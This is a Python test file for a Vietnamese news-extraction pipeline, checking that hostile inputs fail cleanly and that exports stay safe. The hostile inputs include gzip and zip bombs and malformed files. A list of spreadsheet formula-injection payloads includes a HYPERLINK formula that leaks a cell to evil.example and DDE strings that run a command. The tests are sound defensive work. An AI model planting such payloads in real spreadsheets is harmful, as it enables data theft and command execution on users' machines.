"""Hostile input: every bad file costs one clear line naming it, never the run.

Each case writes one hostile file beside a good article and runs `extract` on the folder: the
good article must come out, the hostile file must be reported on exactly one `error:` line
that names it, and the exit code must be 0 (non-zero only with `--strict`, or when nothing at
all could be read). Memory is checked in a subprocess: bombs and giant articles must not be
inflated into memory.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import pytest

from pipeline.cli import main
from tests.helpers import one_by_one

ROOT = Path(__file__).resolve().parents[1]

GOOD = (
    "Nghệ An đầu tư 500 tỷ đồng cho giao thông nông thôn\n"
    "Chủ tịch UBND tỉnh Nghệ An Nguyễn Văn An cho biết năm 2025 tỉnh dành 500 tỷ đồng "
    "để nâng cấp đường giao thông tại huyện Quỳnh Lưu.\n"
)
_TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def cp1258(text: str) -> bytes:
    """`text` the way windows-1258 stores it: base letter, then a combining tone mark."""
    out = bytearray()
    for char in text:
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", char)
            base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in _TONES))
            out += (base + "".join(c for c in parts if c in _TONES)).encode("cp1258")
    return bytes(out)


def gzip_bomb(inflated_mb: int) -> bytes:
    """A gzip stream of `inflated_mb` MB of one letter and no newline, about 1 KB per MB.

    Concatenated gzip members form one valid stream, so the bomb costs milliseconds to build.
    """
    return gzip.compress(b"a" * (1 << 20), compresslevel=9) * inflated_mb


def zip_bomb() -> bytes:
    """A zip archive of 100 MB of zeros (about 100 KB on disk)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"\x00" * (100 << 20))
    return buffer.getvalue()


def huge_article() -> bytes:
    """A 5 MB article (about 4 million characters): past the 2-million-character limit."""
    sentence = "Ông Nguyễn Văn An, Chủ tịch UBND tỉnh, cho biết năm 2025 tỉnh đạt 5%. "
    repeats = 5_000_000 // len(sentence.encode("utf-8")) + 1
    return ("Tiêu đề\n" + sentence * repeats).encode("utf-8")


def nested_html(depth: int = 100_000) -> bytes:
    body = "<div>" * depth + "<p>Chủ tịch UBND tỉnh Nghệ An ký quyết định.</p>" + "</div>" * depth
    return f"<html><head><title>Tin</title></head><body>{body}</body></html>".encode()


CASES = [
    pytest.param("empty.txt", lambda: b"", "empty", id="empty-file"),
    pytest.param("blank.txt", lambda: b" \n\n \t\n", "empty", id="blank-file"),
    pytest.param("binary.txt", lambda: bytes(range(256)) * 64, "not a text file", id="binary"),
    pytest.param(
        "picture.txt",
        lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 16,
        "not a text file",
        id="png-named-txt",
    ),
    pytest.param(
        "legacy.txt",
        lambda: cp1258("Tiêu đề\nChủ tịch UBND tỉnh Nghệ An phát biểu.\n"),
        "UTF-8",
        id="windows-1258",
    ),
    pytest.param(
        "utf16.txt",
        lambda: "Tiêu đề\nChủ tịch UBND tỉnh phát biểu.\n".encode("utf-16"),
        "UTF-16",
        id="utf16-with-bom",
    ),
    pytest.param("broken.json", lambda: b'{"id": "x", "text": "abc"', "malformed JSON", id="json"),
    pytest.param("scalar.json", lambda: b"42", "object", id="json-not-an-object"),
    pytest.param("huge.txt", huge_article, "exceeds", id="5mb-article"),
    pytest.param("bomb.txt.gz", lambda: gzip_bomb(200), "refused", id="gzip-bomb-txt"),
    pytest.param("bomb.jsonl.gz", lambda: gzip_bomb(300), "gzip bomb", id="gzip-bomb-jsonl"),
    pytest.param("broken.txt.gz", lambda: b"\x1f\x8b\x08\x00garbage", "gzip", id="broken-gzip"),
    pytest.param("zipbomb.txt", zip_bomb, "not a text file", id="zip-bomb-named-txt"),
    pytest.param("archive.zip", zip_bomb, "zip", id="zip-bomb-given-explicitly"),
]


def run_extract(paths: list[Path], out: Path, *extra: str) -> int:
    return main(["extract", *map(str, paths), "--out", str(out), *extra])


def error_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("error: ")]


def article_ids(out: Path) -> list[str]:
    with (out / "articles.csv").open(encoding="utf-8", newline="") as handle:
        return [row["article_id"] for row in csv.DictReader(handle)]


@pytest.mark.parametrize(("name", "content", "reason"), CASES)
def test_hostile_file_costs_one_line_and_the_run_goes_on(
    tmp_path: Path, capsys, name: str, content, reason: str
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    hostile = folder / name
    hostile.write_bytes(content())
    paths = [folder, hostile] if name.endswith(".zip") else [folder]  # folders skip .zip
    assert run_extract(paths, tmp_path / "out") == 0
    captured = capsys.readouterr()
    errors = error_lines(captured.err)
    assert len(errors) == 1, captured.err
    assert str(hostile) in errors[0]
    assert reason.lower() in errors[0].lower()
    assert article_ids(tmp_path / "out") == ["good"]
    assert "extracted 1 articles (1 failed)" in captured.out


@pytest.mark.parametrize(("name", "content", "reason"), CASES[:6])
def test_strict_or_nothing_readable_exits_non_zero(
    tmp_path: Path, capsys, name: str, content, reason: str
) -> None:
    hostile = tmp_path / name
    hostile.write_bytes(content())
    good = tmp_path / "good.txt"
    good.write_text(GOOD, encoding="utf-8")
    assert run_extract([hostile], tmp_path / "alone") == 1  # nothing could be read
    assert run_extract([good, hostile], tmp_path / "strict", "--strict") == 1
    assert run_extract([good, hostile], tmp_path / "lenient") == 0
    assert "extracted 0 articles (1 failed)" in capsys.readouterr().out


def test_jsonl_keeps_every_line_but_the_broken_one(tmp_path: Path, capsys) -> None:
    records = [
        {"id": "a", "title": "Tin một", "text": "Chủ tịch UBND tỉnh Hà Tĩnh phát biểu."},
        "{broken line",
        {"id": "c", "title": "Tin ba", "text": "Xã Hòa Bình có 1.200 hộ dân."},
        {"id": "d", "title": "", "text": "   "},
        {"id": "e", "title": "Tin \ud800 năm", "text": "Dòng có ký tự hỏng \udfff ở giữa."},
    ]
    lines = [r if isinstance(r, str) else json.dumps(r, ensure_ascii=True) for r in records]
    path = tmp_path / "feed.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert run_extract([path], tmp_path / "out") == 0
    errors = error_lines(capsys.readouterr().err)
    assert [e.split(": ", 2)[1] for e in errors] == [f"{path}:2", f"{path}:4"]
    assert article_ids(tmp_path / "out") == ["a", "c", "e"]
    titles = {
        row["article_id"]: row["title"]
        for row in csv.DictReader((tmp_path / "out" / "articles.csv").open(encoding="utf-8"))
    }
    assert titles["e"] == "Tin \ufffd năm"  # a lone surrogate is replaced, the article kept


def test_html_of_100k_nested_tags_is_parsed_or_refused_in_one_line(tmp_path: Path, capsys) -> None:
    page = tmp_path / "nested.html"
    page.write_bytes(nested_html())
    good = tmp_path / "good.txt"
    good.write_text(GOOD, encoding="utf-8")
    assert run_extract([good, page], tmp_path / "out") == 0
    errors = error_lines(capsys.readouterr().err)
    assert len(errors) <= 1 and all(str(page) in e for e in errors)
    assert "good" in article_ids(tmp_path / "out")


def test_bombs_and_giant_articles_stay_in_bounded_memory(tmp_path: Path) -> None:
    """In a fresh interpreter, so the peak RSS measured is this run's alone.

    Fully inflated, the bombs would take 1 GB each; the run must stay far below that.
    """
    (tmp_path / "huge.txt").write_bytes(huge_article())
    (tmp_path / "bomb.txt.gz").write_bytes(gzip_bomb(1000))
    (tmp_path / "bomb.jsonl.gz").write_bytes(gzip_bomb(1000))
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    script = (
        "import sys\n"
        "from pipeline.bench import peak_rss_mb\n"
        "from pipeline.cli import main\n"
        "code = main(['extract', sys.argv[1], '--out', sys.argv[2]])\n"
        "print(code, int(peak_rss_mb() * 1024))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path), str(tmp_path / "out")],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
        check=False,
    )
    code, peak_kb = done.stdout.split()[-2:]
    assert code == "0", done.stderr
    assert len(error_lines(done.stderr)) == 3, done.stderr
    assert int(peak_kb) / 1024 < 600, f"peak RSS {int(peak_kb) / 1024:.0f} MB"


# --------------------------------------------------------------------------------------------
# Mistakes and odd names never cost published rows (issue 20 items 1-3, issue 19 item 8)


def csv_snapshot(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(out.glob("*.csv"))}


@pytest.mark.parametrize(
    ("make_paths", "message"),
    [
        pytest.param(lambda d: [d / "articels"], "no such file or folder", id="mistyped-path"),
        pytest.param(
            lambda d: [d / "in", d / "nope.txt"], "no such file or folder", id="mistyped-2nd-path"
        ),
        pytest.param(lambda d: [d / "empty"], "no article could be read", id="empty-folder"),
    ],
)
def test_a_mistaken_plain_run_keeps_the_tables(tmp_path: Path, capsys, make_paths, message) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "empty").mkdir()
    (tmp_path / "in" / "good.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "out"
    assert run_extract([tmp_path / "in"], out) == 0
    before = csv_snapshot(out)
    capsys.readouterr()
    assert run_extract(make_paths(tmp_path), out) == 1
    assert message in capsys.readouterr().err
    assert csv_snapshot(out) == before


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        pytest.param(
            ["bao.2017-01-01.txt", "bao.2017-01-02.txt"],
            {"bao.2017-01-01", "bao.2017-01-02"},
            id="same-stem-before-first-dot",
        ),
        pytest.param(["a/tin.txt", "b/tin.txt"], 2, id="same-name-two-folders"),
        pytest.param(["tin.txt", "tin.html.txt"], {"tin", "tin.html"}, id="dotted-name"),
        pytest.param(["mot.txt", "hai.txt"], {"mot", "hai"}, id="unique-ids-unchanged"),
    ],
)
def test_every_file_gets_its_own_id(tmp_path: Path, capsys, names, expected) -> None:
    for index, name in enumerate(names):
        path = tmp_path / "in" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"Tin {index}\nTỉnh Nghệ An có {index + 2} dự án mới.\n", encoding="utf-8")
    assert run_extract([tmp_path / "in"], tmp_path / "out") == 0
    assert error_lines(capsys.readouterr().err) == []
    ids = article_ids(tmp_path / "out")
    assert len(set(ids)) == len(names)
    if isinstance(expected, set):
        assert set(ids) == expected


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file names are bytes")
def test_non_utf8_file_name_is_read_with_an_escaped_id(tmp_path: Path, capsys) -> None:
    import os

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    raw = os.path.join(os.fsencode(folder), b"b\xe1o.txt")
    with open(raw, "wb") as handle:
        handle.write("Tin lạ\nXã Hòa Bình có 1.200 hộ dân.\n".encode())
    assert run_extract([folder], tmp_path / "out") == 0
    err = capsys.readouterr().err
    warnings = [line for line in err.splitlines() if "not valid UTF-8" in line]
    assert len(warnings) == 1 and "b\\xe1o" in warnings[0], err
    assert sorted(article_ids(tmp_path / "out")) == ["b\\xe1o", "good"]


def test_unsupported_files_are_counted_on_one_line(tmp_path: Path, capsys) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    for name in ("a.pdf", "b.pdf", "c.docx"):
        (folder / name).write_bytes(b"%PDF")
    assert run_extract([folder], tmp_path / "out") == 0
    lines = [line for line in capsys.readouterr().err.splitlines() if "skipped" in line]
    assert lines == [f"warning: {folder}: skipped 3 files of other types: .pdf ×2, .docx ×1"]


def test_empty_folder_says_so(tmp_path: Path, capsys) -> None:
    (tmp_path / "in").mkdir()
    assert run_extract([tmp_path / "in"], tmp_path / "out") == 1
    assert "folder holds no article files" in capsys.readouterr().err


WRONG_TYPES = [
    pytest.param({"id": ["a", "b"], "text": "Nội dung."}, "'id' must be a string", id="id-list"),
    pytest.param({"id": "   ", "text": "Nội dung."}, "'id' is blank", id="id-blank"),
    pytest.param({"id": "x", "title": {"vi": "T"}, "text": "N."}, "'title'", id="title-dict"),
    pytest.param({"id": "x", "text": 42}, "'text' must be a string", id="text-number"),
    pytest.param({"id": "x", "paragraphs": ["Một.", None]}, "item 1", id="paragraph-null"),
    pytest.param({"id": "x", "paragraphs": "Một."}, "'paragraphs'", id="paragraphs-string"),
    pytest.param({"id": "x", "text": "N.", "url": ["u"]}, "'url'", id="url-list"),
    pytest.param({"id": "x", "text": "N.", "published_at": 2017}, "'published_at'", id="date-int"),
]


@pytest.mark.parametrize(("record", "reason"), WRONG_TYPES)
def test_json_field_of_the_wrong_type_is_an_error_not_data(
    tmp_path: Path, capsys, record, reason
) -> None:
    good = {"id": "good", "title": "Tin", "text": "Xã Hòa Bình có 1.200 hộ dân."}
    path = tmp_path / "feed.jsonl"
    path.write_text(json.dumps(good) + "\n" + json.dumps(record) + "\n", encoding="utf-8")
    assert run_extract([path], tmp_path / "out") == 0
    errors = error_lines(capsys.readouterr().err)
    assert len(errors) == 1 and f"{path}:2" in errors[0] and reason in errors[0], errors
    assert article_ids(tmp_path / "out") == ["good"]


def test_integer_id_is_kept_as_text(tmp_path: Path) -> None:
    path = tmp_path / "feed.jsonl"
    path.write_text(json.dumps({"id": 17, "text": "Tin\nNội dung."}) + "\n", encoding="utf-8")
    assert run_extract([path], tmp_path / "out") == 0
    assert article_ids(tmp_path / "out") == ["17"]


BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"


@pytest.mark.parametrize("mark", list(BIDI), ids=[f"U+{ord(c):04X}" for c in BIDI])
def test_bidi_controls_never_hide_an_official_nor_reach_a_cell(
    tmp_path: Path, capsys, mark: str
) -> None:
    text = GOOD.replace("Nguyễn Văn An", f"Nguyễn {mark}Văn{mark} An")
    (tmp_path / "bidi.txt").write_text(text, encoding="utf-8")
    assert run_extract([tmp_path / "bidi.txt"], tmp_path / "out") == 0
    officials = (tmp_path / "out" / "officials.csv").read_text(encoding="utf-8")
    assert "Nguyễn Văn An" in officials
    for table in (tmp_path / "out").glob("*.csv"):
        assert not set(BIDI) & set(table.read_text(encoding="utf-8")), table.name


def test_article_over_its_time_budget_fails_alone(tmp_path: Path, capsys, monkeypatch) -> None:
    """An article that would never finish (a busy loop stands for a runaway regex) costs one
    line after its budget; the article after it is extracted."""
    import pipeline.extract as extract
    from pipeline.ingest import from_txt

    extract.extract_article(from_txt(GOOD, "warm-up"))  # models load outside the budget
    real = extract.make_doc

    def runaway(article):
        while "vô tận" in article.title:
            pass
        return real(article)

    monkeypatch.setattr(extract, "make_doc", runaway)
    (tmp_path / "a-loop.txt").write_text("Bài vô tận\nMột câu.\n", encoding="utf-8")
    (tmp_path / "b-good.txt").write_text(GOOD, encoding="utf-8")
    assert run_extract([tmp_path], tmp_path / "out", "--article-timeout", "0.5") == 0
    errors = error_lines(capsys.readouterr().err)
    assert len(errors) == 1 and "a-loop.txt" in errors[0] and "--article-timeout" in errors[0]
    assert article_ids(tmp_path / "out") == ["b-good"]


# Whole-pipeline pathological strings: each article must finish or fail within its CPU budget,
# and the run must go on. A benchmark-style check (slow: `make eval-tests`), not a unit test.
PATHOLOGICAL_BODIES = {
    "dots": "." * 1_000_000,
    "dot-space": ". " * 100_000,
    "digit-groups": "1." * 100_000,
    "slashes": "1/" * 100_000,
    "percents": "5% " * 60_000,
    "parens": "(" * 200_000,
    "repeated-syllable": "tỷ " * 100_000,
    "repeated-name": "Nguyễn " * 50_000,
    "abbreviations": "TP. Hà " * 50_000,
    "money": "500 tỷ đồng, " * 20_000,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", [*PATHOLOGICAL_BODIES, "giant"])
def test_pathological_articles_finish_or_fail_within_budget(name: str) -> None:
    """Each article ends (rows or one error line) within its CPU budget plus a margin; CPU
    time, so that a loaded machine does not fail the check. The run going on after a failed
    article is `test_article_over_its_time_budget_fails_alone`."""
    import time

    from pipeline.article import Article
    from pipeline.extract import extract_article
    from pipeline.ingest import from_txt

    extract_article(from_txt(GOOD, "warm-up"))
    if name == "giant":  # 1.99 million characters of ordinary sentences
        sentence = "Ông Nguyễn Văn An, Chủ tịch UBND tỉnh Nghệ An, cho biết tỉnh đạt 5%. "
        body = (sentence * (1_990_000 // len(sentence)))[:1_989_000]
    else:
        body = PATHOLOGICAL_BODIES[name]
    budget = 10.0  # CPU seconds (the CLI default is 60)
    started = time.process_time()
    result = extract_article(Article(name, "Tiêu đề", (body,)), timeout=budget)
    spent = time.process_time() - started
    assert spent < budget + 5, f"{name}: {spent:.1f} s of CPU"
    assert not result.error or "--article-timeout" in result.error or "failed" in result.error


# --------------------------------------------------------------------------------------------
# Formula injection (issue 20 item 12): scraped titles and URLs are written by strangers

INJECTIONS = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Bấm")', id="equals-hyperlink"),
    pytest.param("=cmd|' /C calc'!A0", id="equals-dde"),
    pytest.param("+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


@pytest.fixture
def injected_store(tmp_path: Path):
    from decimal import Decimal

    from pipeline.extract import ArticleResult
    from pipeline.store import Store
    from pipeline.tables import ArticleRow, FigureRow

    def store_with(payload: str) -> Path:
        path = tmp_path / "store.duckdb"
        row = ArticleRow("x", "baomau.vn", payload, payload, "2021-01-02", 1, 1, 5, "sha")
        figure = FigureRow("x", "-5%", "percent", Decimal("-5"), None, "%", None, payload)
        with Store(path) as store:
            store.stage([ArticleResult("x", {"articles": [row], "figures": [figure]})], "t")
            store.publish(["x"])
        return path

    return store_with


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formulas_are_neutralised_in_spreadsheet_exports_only(
    injected_store, tmp_path: Path, payload: str
) -> None:
    import pandas as pd
    from openpyxl import load_workbook

    from pipeline.export import export

    store = injected_store(payload)
    csv_path = export("figures", store=store, out_dir=tmp_path / "e", fmt="csv").path
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    for column in ("article_title", "url", "evidence"):
        assert row[column] == "'" + payload, column
    assert row["value"] == "-5"  # numbers stay numbers

    xlsx_path = export("figures", store=store, out_dir=tmp_path / "e", fmt="xlsx").path
    sheet = load_workbook(xlsx_path).active
    cells = {c.column_letter: c for c in sheet[2]}
    header = [c.value for c in sheet[1]]
    for column in ("article_title", "url", "evidence"):
        cell = cells[chr(ord("A") + header.index(column))]
        assert cell.data_type == "s" and cell.value == "'" + payload, column

    parquet_path = export("figures", store=store, out_dir=tmp_path / "e", fmt="parquet").path
    exact = pd.read_parquet(parquet_path).iloc[0]
    assert (exact["article_title"], exact["url"], exact["evidence"]) == (payload,) * 3


# --------------------------------------------------------------------------------------------
# A run's tables are published in one step (issue 20 item 13)


def test_publish_cut_between_renames_is_finished_by_the_next_run(
    tmp_path: Path, monkeypatch
) -> None:
    import os

    import pipeline.publish as publish
    from pipeline.tables import TableWriter

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "out"
    assert run_extract([folder], out) == 0
    (folder / "b.txt").write_text(GOOD.replace("Nghệ An", "Hà Tĩnh"), encoding="utf-8")
    real, renamed = os.replace, []

    def killed_after_two(source, target):
        if len(renamed) == 2 and str(target).endswith(".csv"):
            raise KeyboardInterrupt  # stands for a kill between two renames
        renamed.append(target)
        return real(source, target)

    monkeypatch.setattr(publish.os, "replace", killed_after_two)
    assert run_extract([folder], out) == 130
    monkeypatch.setattr(publish.os, "replace", real)
    TableWriter(out).abort()  # what every later run does first
    assert article_ids(out) == ["a", "b"]
    for table in ("officials", "localities", "figures"):
        with (out / f"{table}.csv").open(encoding="utf-8") as handle:
            assert {row["article_id"] for row in csv.DictReader(handle)} == {"a", "b"}, table
    assert [p.name for p in out.iterdir() if p.name.startswith(".") and p.name != ".lock"] == []


def test_temporary_files_of_a_killed_run_are_cleaned(tmp_path: Path) -> None:
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    for stale in (".figures.csv.k1ll3d", ".articles.csv.x9", ".figures.parquet.tmp"):
        (out / stale).write_text("half a table", encoding="utf-8")
    (out / ".parquet.abc").mkdir()
    assert run_extract([tmp_path / "good.txt"], out) == 0
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == [".lock"]


def test_two_runs_on_one_folder_do_not_mix(tmp_path: Path) -> None:
    from pipeline.publish import FolderBusy, folder_lock

    with folder_lock(tmp_path / "out"), pytest.raises(FolderBusy, match="another run"):
        with folder_lock(tmp_path / "out"):
            pass


# --------------------------------------------------------------------------------------------
# Faults end in one line, never a traceback (issue 20 item 14)


def _fake_extraction(monkeypatch, fault=None) -> None:
    """Rows without NLP (fast); `fault` is raised instead, as the extraction of an article."""
    from pipeline import engine
    from pipeline.extract import ArticleResult
    from pipeline.tables import ArticleRow

    def fake(article, timeout=None):
        if fault is not None:
            raise fault
        row = ArticleRow(article.article_id, "", "", article.title, "", 1, 1, 3, "sha")
        return ArticleResult(article.article_id, {"articles": [row]})

    monkeypatch.setattr(engine, "extract_articles", one_by_one(fake))


def ctrl_c(tmp_path, monkeypatch):
    _fake_extraction(monkeypatch, KeyboardInterrupt())
    return ["--store", str(tmp_path / "s.duckdb")], 130, "interrupted"


def disk_full_csv(tmp_path, monkeypatch):
    import errno

    from pipeline.tables import TableWriter

    _fake_extraction(monkeypatch)

    def full(self, tables):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(TableWriter, "add", full)
    return [], 1, "disk full"


def disk_full_store(tmp_path, monkeypatch):
    import duckdb

    from pipeline.store import Store

    _fake_extraction(monkeypatch)

    def full(self, results, version):
        raise duckdb.IOException('FATAL Error: could not write "s.duckdb": No space left on device')

    monkeypatch.setattr(Store, "stage", full)
    return ["--store", str(tmp_path / "s.duckdb")], 1, "disk full"


def corrupt_store(tmp_path, monkeypatch):
    _fake_extraction(monkeypatch)
    store = tmp_path / "s.duckdb"
    assert main(["extract", str(tmp_path / "in"), "--store", str(store), "--out", "o"]) == 0
    with store.open("r+b") as handle:
        handle.seek(12_288)
        handle.write(b"\xff" * 50_000)
    return ["--store", str(store)], 1, "damaged"


def out_is_a_file(tmp_path, monkeypatch):
    _fake_extraction(monkeypatch)
    return ["--out", str(tmp_path / "in" / "a.txt")], 1, "is a file"


def store_folder_unwritable(tmp_path, monkeypatch):
    _fake_extraction(monkeypatch)
    return ["--store", str(tmp_path / "in" / "a.txt" / "s.duckdb")], 1, "store's folder"


def dask_cannot_start(tmp_path, monkeypatch):
    import distributed

    _fake_extraction(monkeypatch)

    def refused(*args, **kwargs):
        raise OSError("[Errno 98] Address already in use")

    monkeypatch.setattr(distributed, "LocalCluster", refused)
    return ["--engine", "dask"], 1, "cannot start a local Dask cluster"


FAULTS = [
    pytest.param(ctrl_c, id="ctrl-c"),
    pytest.param(disk_full_csv, id="disk-full-csv"),
    pytest.param(disk_full_store, id="disk-full-duckdb"),
    pytest.param(corrupt_store, id="corrupt-store"),
    pytest.param(out_is_a_file, id="out-is-a-file"),
    pytest.param(store_folder_unwritable, id="store-folder-unwritable"),
    pytest.param(dask_cannot_start, id="dask-cannot-start"),
]


@pytest.mark.parametrize("verbose", [False, True], ids=["quiet", "-v"])
@pytest.mark.parametrize("fault", FAULTS)
def test_a_fault_is_one_error_line(tmp_path: Path, capsys, monkeypatch, fault, verbose) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text("Tin\nTỉnh Nghệ An có 5 dự án.\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    extra, code, reason = fault(tmp_path, monkeypatch)
    capsys.readouterr()
    argv = ["-v"] * verbose + ["extract", str(tmp_path / "in"), "--out", "out", *extra]
    assert main(argv) == code
    err = capsys.readouterr().err
    errors = error_lines(err)
    assert len(errors) == 1 and reason in errors[0], err
    assert ("Traceback" in err) == verbose


# --------------------------------------------------------------------------------------------
# Error floods are capped per file (issue 20 item 8)

ONE_LINE = json.dumps({"id": "x", "title": "Tin", "text": "Xã Hòa Bình có 1.200 hộ dân."})


@pytest.mark.parametrize(
    ("name", "content", "listed"),
    [
        pytest.param(
            "dup.jsonl.gz",
            lambda: gzip.compress(((ONE_LINE + "\n") * 200_000).encode()),
            "duplicate article id",
            id="gzip-of-one-line-repeated",
        ),
        pytest.param(
            "dup.jsonl", lambda: ((ONE_LINE + "\n") * 200_000).encode(), "duplicate", id="jsonl"
        ),
        pytest.param(
            "bad.jsonl",
            lambda: (ONE_LINE + "\n").encode() + b"{broken\n" * 200_000,
            "malformed JSON",
            id="broken-lines",
        ),
        pytest.param(
            "few.jsonl",
            lambda: ((ONE_LINE + "\n") + "{broken\n" * 20).encode(),
            "malformed JSON",
            id="twenty-bad-lines",
        ),
    ],
)
def test_error_floods_are_capped_per_file(tmp_path: Path, name, content, listed) -> None:
    from pipeline.ingest import MAX_ERRORS_SHOWN, IngestError, read_articles

    path = tmp_path / name
    path.write_bytes(content())
    errors: list[IngestError] = []
    articles = list(read_articles([path], errors))
    assert [a.article_id for a in articles] == ["x"]
    assert MAX_ERRORS_SHOWN < len(errors) <= MAX_ERRORS_SHOWN + 2, errors[-3:]
    assert all(listed in e.message for e in errors[:MAX_ERRORS_SHOWN])
    assert "not listed" in errors[-1].message
    assert all(str(path) in str(e) for e in errors)


# --------------------------------------------------------------------------------------------
# Workers die with their parent (issue 20 item 10)

ORPHANS = """
import os, signal, sys, time
from pathlib import Path
from pipeline import engine
from pipeline.article import Article

def slow(article, timeout=None):
    Path(sys.argv[1], str(os.getpid())).touch()
    time.sleep(120)

engine.extract_article = slow
articles = [Article(str(i), "Tin", ("Một câu.",)) for i in range(32)]
results = engine.run(articles, engine="process", workers=2)
for result in results:
    pass
"""


@pytest.mark.skipif(sys.platform != "linux", reason="kill -9 and /proc")
def test_pool_workers_die_when_the_parent_is_killed(tmp_path: Path) -> None:
    import os
    import signal
    import time

    pids = tmp_path / "pids"
    pids.mkdir()
    parent = subprocess.Popen([sys.executable, "-c", ORPHANS, str(pids)], cwd=ROOT)
    workers: list[int] = []
    try:
        deadline = time.monotonic() + 60
        while len(workers) < 2 and time.monotonic() < deadline:
            workers = [int(p.name) for p in pids.iterdir()]
            time.sleep(0.2)
        assert len(workers) == 2, "the workers never started"
        parent.send_signal(signal.SIGKILL)
        parent.wait(timeout=10)
        deadline = time.monotonic() + 15
        alive = workers
        while alive and time.monotonic() < deadline:
            time.sleep(0.2)
            alive = [pid for pid in workers if Path(f"/proc/{pid}").exists()
                     and "Z" not in Path(f"/proc/{pid}/stat").read_text().split()[2]]  # fmt: skip
        assert alive == [], f"workers {alive} outlived their parent"
    finally:
        parent.kill()
        for pid in workers:  # only the processes this test started
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass


# --------------------------------------------------------------------------------------------
# fetch and scrape have deadlines (issue 20 items 9 and 11). A local server on 127.0.0.1 only;
# every loop is bounded in count and time, and the server stops with the test.

PAGE = (
    "<html><head><title>Tin</title></head><body><article><h1>Tin</h1>"
    "<p>Chủ tịch UBND tỉnh Nghệ An Nguyễn Văn An cho biết tỉnh dành 500 tỷ đồng.</p>"
    "</article></body></html>"
).encode()


class DripServer:
    """Raw HTTP on 127.0.0.1: routes that drip bytes, or ask the host to wait."""

    def __init__(self) -> None:
        import socketserver
        import threading
        import time

        self.hits: list[tuple[str, float]] = []
        self.stop = threading.Event()
        outer = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                line = self.rfile.readline(65536).decode("latin-1")
                while self.rfile.readline(65536) not in (b"\r\n", b"\n", b""):
                    pass
                path = line.split(" ")[1] if " " in line else "/"
                outer.hits.append((path, time.monotonic()))
                outer.route(path, self.wfile)

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def drip(self, out, data: bytes, every: float = 0.2) -> None:
        for byte in data[:100]:  # at most 100 bytes: about 20 s, unless the client hangs up
            if self.stop.wait(every):
                return
            out.write(bytes([byte]))
            out.flush()

    def route(self, path: str, out) -> None:
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n"
        try:
            if path == "/robots.txt" and getattr(self, "drip_robots", False):
                self.drip(out, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n")
            elif path == "/robots.txt":
                out.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            elif path == "/drip-body":
                out.write(head % 5000)
                self.drip(out, PAGE * 40)
            elif path == "/drip-headers":
                self.drip(out, head % len(PAGE))
            elif path == "/wait" and sum(p == "/wait" for p, _ in self.hits) == 1:
                out.write(b"HTTP/1.1 429 Too Many\r\nRetry-After: 2\r\nContent-Length: 0\r\n\r\n")
            else:
                out.write(head % len(PAGE) + PAGE)
            out.flush()
        except OSError:  # the client hung up: expected for the drips
            pass

    def close(self) -> None:
        self.stop.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def drip_server():
    server = DripServer()
    yield server
    server.close()


@pytest.mark.parametrize("path", ["/drip-body", "/drip-headers"])
def test_a_dripping_server_cannot_hold_a_request_past_its_deadline(drip_server, path) -> None:
    import time

    from pipeline.scrape import FetchConfig, PoliteClient
    from pipeline.scrape.errors import FetchError

    config = FetchConfig(timeout=1.0, deadline=1.5, attempts=1, host_delay=0.0)
    started = time.monotonic()
    with PoliteClient(config) as client, pytest.raises(FetchError, match="in all"):
        client.get(drip_server.base + path)
